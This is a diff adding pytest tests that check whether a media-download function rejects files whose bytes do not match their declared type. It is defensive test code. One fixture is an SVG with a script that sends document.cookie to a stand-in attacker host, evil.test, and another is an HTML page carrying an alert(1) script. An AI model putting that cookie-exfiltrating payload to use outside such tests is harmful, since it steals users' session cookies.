@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import asyncio
+import io
 import socket
 from collections.abc import AsyncIterator
 from typing import Any
@@ -8,10 +9,11 @@ from typing import Any
 import httpx
 import pytest
 import pytest_asyncio
+from PIL import Image
 
 from pipeline.providers.base import ProviderError
 from pipeline.providers.download import download_media
-from tests.fakes.providers import PNG, FakeMediaHost
+from tests.fakes.providers import MP4, PNG, WEBM, FakeMediaHost
 
 CAP = 1024 * 1024
 
@@ -188,3 +190,135 @@ async def test_http_errors(
             client, f"{host.url}/x.png", allowed_hosts=[f"127.0.0.1:{host.port}"], max_bytes=CAP
         )
     assert (caught.value.status, caught.value.retryable) == (status, retryable)
+
+
+# -- the bytes must be what the Content-Type claims --------------------------------------------
+
+SVG_WITH_SCRIPT = (
+    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
+    b"<script>fetch('https://evil.test/?c=' + document.cookie)</script></svg>"
+)
+HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
+
+
+def encoded(image_format: str, size: tuple[int, int] = (64, 48)) -> bytes:
+    """A real image in `image_format`, made with Pillow; noisy, so a JPEG has many scans' worth."""
+    image = Image.frombytes("RGB", size, bytes(range(256)) * (size[0] * size[1] * 3 // 256 + 1))
+    out = io.BytesIO()
+    image.save(out, format=image_format)
+    return out.getvalue()
+
+
+async def fetched(host: FakeMediaHost, client: httpx.AsyncClient, url: str) -> tuple[bytes, str]:
+    return await download_media(
+        client, url, allowed_hosts=[f"127.0.0.1:{host.port}"], max_bytes=CAP
+    )
+
+
+@pytest.mark.asyncio
+@pytest.mark.parametrize(
+    ("body", "content_type", "reason"),
+    [
+        pytest.param(
+            SVG_WITH_SCRIPT,
+            "image/png",
+            "the image from 127.0.0.1 is not a PNG (it reads as SVG)",
+            id="svg-as-png",
+        ),
+        pytest.param(
+            HTML_PAGE,
+            "image/png",
+            "the image from 127.0.0.1 is not a PNG (it reads as HTML)",
+            id="html-as-png",
+        ),
+        pytest.param(
+            HTML_PAGE,
+            "image/jpeg",
+            "the image from 127.0.0.1 is not a JPEG (it reads as HTML)",
+            id="html-as-jpeg",
+        ),
+        pytest.param(
+            b"just some notes\n",
+            "video/mp4",
+            "the video from 127.0.0.1 is not an MP4 (it reads as text)",
+            id="text-as-mp4",
+        ),
+        pytest.param(
+            MP4,
+            "video/webm",
+            "the video from 127.0.0.1 is not a WebM (it reads as MP4/MOV)",
+            id="mp4-as-webm",
+        ),
+        pytest.param(
+            WEBM,
+            "video/mp4",
+            "the video from 127.0.0.1 is not an MP4 (it reads as WebM/Matroska)",
+            id="webm-as-mp4",
+        ),
+        pytest.param(
+            b"",
+            "image/png",
+            "the image from 127.0.0.1 is not a PNG (it reads as an empty file)",
+            id="empty-as-png",
+        ),
+    ],
+)
+async def test_bytes_that_are_not_what_they_claim_are_refused_with_the_reason(
+    host: FakeMediaHost, client: httpx.AsyncClient, body: bytes, content_type: str, reason: str
+) -> None:
+    url = host.add("/media", body, content_type)
+    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
+    assert error.message == f"media download refused: {reason}"
+
+
+@pytest.mark.asyncio
+async def test_an_image_of_another_format_is_refused(
+    host: FakeMediaHost, client: httpx.AsyncClient
+) -> None:
+    url = host.add("/hero.png", encoded("JPEG"), "image/png")
+    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
+    assert error.message.endswith("is not a PNG (it reads as JPEG)")
+
+
+@pytest.mark.asyncio
+@pytest.mark.parametrize("chunked", [False, True])
+async def test_a_truncated_jpeg_is_refused(
+    host: FakeMediaHost, client: httpx.AsyncClient, chunked: bool
+) -> None:
+    whole = encoded("JPEG", (256, 256))
+    url = host.add("/hero.jpeg", whole[: len(whole) // 2], "image/jpeg", chunked=chunked)
+    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
+    assert error.message.startswith(
+        "media download refused: the image from 127.0.0.1 is a truncated or damaged JPEG ("
+    )
+
+
+@pytest.mark.asyncio
+async def test_svg_is_never_accepted_even_labelled_as_svg(
+    host: FakeMediaHost, client: httpx.AsyncClient
+) -> None:
+    url = host.add("/hero.svg", SVG_WITH_SCRIPT, "image/svg+xml")
+    error = await refused(client, url, [f"127.0.0.1:{host.port}"])
+    assert "'image/svg+xml' is not a supported media type" in error.message
+
+
+@pytest.mark.asyncio
+@pytest.mark.parametrize(
+    ("body", "content_type"),
+    [
+        pytest.param(PNG, "image/png", id="tiny-png"),
+        pytest.param(encoded("PNG"), "image/png", id="png"),
+        pytest.param(encoded("JPEG"), "image/jpeg", id="jpeg"),
+        pytest.param(encoded("WEBP"), "image/webp", id="webp"),
+        pytest.param(encoded("GIF"), "image/gif", id="gif"),
+        pytest.param(MP4, "video/mp4", id="mp4"),
+        pytest.param(MP4, "video/quicktime", id="mov"),
+        pytest.param(WEBM, "video/webm", id="webm"),
+        pytest.param(WEBM, "video/x-matroska", id="mkv"),
+    ],
+)
+async def test_real_media_is_accepted_as_it_came(
+    host: FakeMediaHost, client: httpx.AsyncClient, body: bytes, content_type: str
+) -> None:
+    url = host.add("/media", body, f"{content_type}; charset=binary")
+    assert await fetched(host, client, url) == (body, content_type)
